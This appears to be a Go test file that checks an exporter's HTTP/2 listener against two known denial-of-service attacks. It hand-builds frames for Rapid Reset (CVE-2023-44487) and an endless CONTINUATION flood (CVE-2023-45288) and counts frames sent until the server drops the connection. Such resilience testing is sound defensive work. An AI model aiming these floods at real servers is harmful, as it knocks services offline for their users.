package attack_test

import (
	"bytes"
	"context"
	"crypto/tls"
	"encoding/binary"
	"io"
	"net"
	"time"
)

const preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

// Types and flags of frames (RFC 9113, section 6).
const (
	frameHeaders      = 1
	frameReset        = 3
	frameSettings     = 4
	frameContinuation = 9
	endHeaders        = 4
	endStream         = 1
)

func frame(kind, flags byte, stream uint32, payload []byte) []byte {
	b := make([]byte, 9, 9+len(payload))
	binary.BigEndian.PutUint32(b, uint32(len(payload))<<8|uint32(kind))
	b[4] = flags
	binary.BigEndian.PutUint32(b[5:], stream)
	return append(b, payload...)
}

// requestBlock is GET /metrics of https, in HPACK (RFC 7541) without its dictionary.
func requestBlock() []byte {
	literal := func(index byte, value string) []byte { return append([]byte{index, byte(len(value))}, value...) }
	return bytes.Join([][]byte{{0x82, 0x87}, literal(0x04, "/metrics"), literal(0x01, "127.0.0.1")}, nil)
}

// dialHTTP2 begins an HTTP/2 connection to the web listener. Frames from the exporter are read and
// dropped.
func (e *exporter) dialHTTP2(ctx context.Context) net.Conn {
	d := tls.Dialer{NetDialer: &net.Dialer{Timeout: 2 * time.Second}, Config: &tls.Config{RootCAs: e.roots, NextProtos: []string{"h2"}}}
	conn, err := d.DialContext(ctx, "tcp", e.web)
	if err != nil {
		e.Errorf("HTTP/2 to the web listener: %v", err)
		return nil
	}
	conn.SetDeadline(time.Now().Add(10 * time.Second))
	go io.Copy(io.Discard, conn)
	if _, err := conn.Write(append([]byte(preface), frame(frameSettings, 0, 0, nil)...)); err != nil {
		e.Error(err)
	}
	return conn
}

// rapidReset begins streams and resets them at once (CVE-2023-44487). It returns the number of streams
// until the exporter closed the connection.
func (e *exporter) rapidReset(ctx context.Context, streams int) (sent int) {
	conn := e.dialHTTP2(ctx)
	if conn == nil {
		return 0
	}
	defer conn.Close()
	for n := range streams {
		id := uint32(2*n + 1)
		both := append(frame(frameHeaders, endHeaders|endStream, id, requestBlock()), frame(frameReset, 0, id, []byte{0, 0, 0, 8})...)
		if _, err := conn.Write(both); err != nil || ctx.Err() != nil {
			break
		}
		sent++
	}
	return sent
}

// continuations sends a header that never ends (CVE-2023-45288). It returns the number of frames until
// the exporter closed the connection.
func (e *exporter) continuations(ctx context.Context, frames int) (sent int) {
	conn := e.dialHTTP2(ctx)
	if conn == nil {
		return 0
	}
	defer conn.Close()
	if _, err := conn.Write(frame(frameHeaders, endStream, 1, requestBlock())); err != nil {
		return 0
	}
	// One field of 16 KiB in each frame.
	field := append([]byte{0x00, 0x01, 'x', 0x7f, 0x81, 0x7e}, bytes.Repeat([]byte{'a'}, 127+16129)...)
	for range frames {
		if _, err := conn.Write(frame(frameContinuation, 0, 1, field)); err != nil || ctx.Err() != nil {
			break
		}
		sent++
	}
	return sent
}
